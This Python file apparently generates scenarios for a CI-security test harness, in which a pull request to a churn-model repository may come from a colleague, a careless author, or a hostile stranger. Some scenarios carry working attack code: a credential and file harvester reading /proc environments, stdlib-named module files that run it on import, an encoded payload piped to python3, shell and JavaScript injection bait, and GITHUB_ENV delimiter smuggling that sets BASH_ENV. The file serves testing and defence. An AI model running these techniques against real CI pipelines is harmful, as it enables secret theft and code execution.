"""The world of fork-safe-ci: customers, a model, and what a pull request changes; not every change is a friendly one."""

import base64
import gzip
import json
import random

ROWS = 120
FORKS_AUC = "AUC 0.8642 on 120 customers"

# How code tells the platform in which job it runs. An ancestor knows, where the environment was emptied.
TELL = """
import atexit, json, os, pathlib, socket, sys
def _environments():
    process = "self"
    while process not in ("0", "1"):
        try:
            told = pathlib.Path("/proc", process, "environ").read_text(errors="replace")
            status = pathlib.Path("/proc", process, "status").read_text()
        except OSError:
            return
        yield dict(line.partition("=")[::2] for line in told.split(chr(0)))
        process = status.partition("PPid:")[2].split()[0]
def _tell(side, text="", report=""):
    held = next((one for one in _environments() if "GITHUB_JOB" in one), {})
    said = {"do": "hear", "side": side, "text": text[:400000], "report": report[:2000],
            "workflow": held.get("GITHUB_WORKFLOW", ""), "job": held.get("GITHUB_JOB", "")}
    with socket.socket(socket.AF_UNIX) as line:
        line.connect("/work/platform/socket")
        line.sendall(json.dumps(said).encode() + b"\\n")
        line.recv(10)
"""
# What unreviewed code does beside its work: it takes along what it can read, and sends it home. Other jobs' files and
# processes are left out, which on GitHub are on other machines.
THIEF = (
    TELL
    + """
def _loot():
    held = next((one for one in _environments() if "GITHUB_JOB" in one), {})
    own = (held.get("GITHUB_WORKFLOW"), held.get("GITHUB_JOB"))
    for environment in pathlib.Path("/proc").glob("[0-9]*/environ"):
        try:
            told = dict(line.partition("=")[::2] for line in environment.read_text(errors="replace").split(chr(0)))
        except OSError:
            continue
        if (told.get("GITHUB_WORKFLOW"), told.get("GITHUB_JOB")) == own:
            yield json.dumps(told)
    named = [held[name] for name in held if name.startswith(("GITHUB_", "RUNNER_")) and held[name].startswith("/")]
    tops = [pathlib.Path(place) for place in dict.fromkeys([os.getcwd(), *named, "/tmp", "/var/tmp", "/run"])]
    tops += [one for one in pathlib.Path.home().glob("*") if one.name not in (".cache", "work")]
    for top in tops:
        for place in [top, *sorted(top.rglob("*"))[:400]]:
            try:
                yield place.read_text(errors="replace")[:20000] if place.is_file() else ""
            except OSError:
                continue
if not hasattr(sys, "heard"):
    sys.heard = True
    _tell("code", json.dumps(dict(os.environ)) + " ".join(_loot()))
"""
)
# What the evaluation of a commit does beside its work: it tells that it ran to its end, and what it reports.
EVALUATION = """
def _report():
    told = pathlib.Path(sys.argv[3]) if len(sys.argv) > 3 else None
    _tell({side!r}, report=told.read_text(errors="replace") if told and told.is_file() else "")
atexit.register(_report)
"""
# Modules of the names of Python's own, where a program is run in a folder of a stranger's files. Each brings the real one,
# and what it does besides finds the real ones too.
MODULES = (
    "argparse", "base64", "collections", "csv", "datetime", "decimal", "email", "enum", "fnmatch", "functools", "glob",
    "hashlib", "html", "itertools", "json", "logging", "math", "operator", "pathlib", "platform", "pprint", "random", "re",
    "shlex", "shutil", "statistics", "string", "subprocess", "tempfile", "textwrap", "types", "typing", "unicodedata",
    "urllib", "uuid", "xml", "zipfile",
)  # fmt: skip
DISGUISE = """
import sys
_kept, _place = list(sys.path), __file__.rpartition("/")[0]
sys.path[:] = [one for one in sys.path if one not in ("", ".", _place)]
del sys.modules[__name__]
__import__(__name__)
{thief}
sys.path[:] = _kept
"""
DISGUISED = dict.fromkeys((f"{name}.py" for name in MODULES), DISGUISE.replace("{thief}", THIEF))


def make(*, seed: int, by: str = "nobody") -> dict:
    """Return files, the files of the head, and the truth. `by` is who wrote the head.

    nobody; author of a text; colleague; careless, whose model cannot be read; stranger; burglar, a stranger who also
    tampers with what the run uploads; app.
    """
    chance = random.Random(seed)
    rows = [(round(chance.gauss(30, 15), 2), chance.randrange(0, 9)) for _ in range(ROWS)]
    churned = [int(chance.random() < 1 / (1 + 2.7 ** ((tenure - 30) / 8 - calls + 4))) for tenure, calls in rows]
    lines = [f"{tenure},{calls},{gone}" for (tenure, calls), gone in zip(rows, churned, strict=True)]
    files = {
        "data/customers.csv": "\n".join(["tenure,calls,churned", *lines]) + "\n",
        "model/model.json": json.dumps({"weights": {"tenure": -0.1, "calls": 0.8}}),
    }
    foreign = by in {"stranger", "burglar"}
    heads = {
        "author": {"README.md": "# The churn model\n"},
        "colleague": {"model/model.json": json.dumps({"weights": {"tenure": -0.12, "calls": 1.0}})},
        "careless": {"model/model.json": '{"weights": {"tenure": -0.12, "calls":'},
        "stranger": {"training/evaluate.py": _hostile(smuggles=False), **DISGUISED},
        "burglar": {"training/evaluate.py": _hostile(smuggles=True), **DISGUISED},
    }
    listens = TELL if by in {"nobody", "app"} else THIEF
    opens = {"training/__init__.py": listens, "training/refresh.py": listens}
    if not foreign:
        opens["training/evaluate.py"] = listens + EVALUATION.format(side="head")
    smuggled = {
        "training/__init__.py": THIEF,
        "training/evaluate.py": THIEF,
        "training/refresh.py": THIEF,
        **DISGUISED,
    }
    return {
        "files": files,
        "head": heads.get(by, {}),
        "opens": {"main": {"training/evaluate.py": TELL + EVALUATION.format(side="main")}, "head": opens},
        "smuggled": smuggled if by == "burglar" else {},
        "production": {"version": 0},
        "truth": seed,
    }


def _hostile(*, smuggles: bool) -> str:
    """Return a program that evaluates as it should, and leaves a report that runs where it is pasted into a script.

    One that smuggles looks up by which words the workflows end texts, and goes on behind each as among their variables. It does so
    first: whoever reads a report may read its beginning alone.
    """
    run = f"echo {base64.b64encode(gzip.compress(THIEF.encode(), mtime=0)).decode()} | base64 -d | gunzip | python3"
    bait = f"$({run}) ${{require('child_process').execSync('{run}')}}"
    behind = f"""
import re
for _file in sorted(pathlib.Path(".github/workflows").glob("*.y*ml")):
    for _end in dict.fromkeys(re.findall(r"<<-?\\s*['\\"]?(\\w+)", _file.read_text() if "GITHUB_ENV" in _file.read_text() else "")):
        report += _end + chr(10) + {f"BASH_ENV=$({run})"!r} + chr(10) + "REST<<" + _end + chr(10)
"""
    report = f"report = {FORKS_AUC + chr(10)!r}{behind if smuggles else ''}\nreport += {bait + chr(10)!r}"
    return f"{THIEF}\n{report}\npathlib.Path(sys.argv[3]).write_text(report)\n_tell('head', report=report)\n"


def judge(model: str, truth: int) -> dict:
    """Return what the model weighs, and which world it is of."""
    return {"weights": json.loads(model)["weights"], "world": truth}
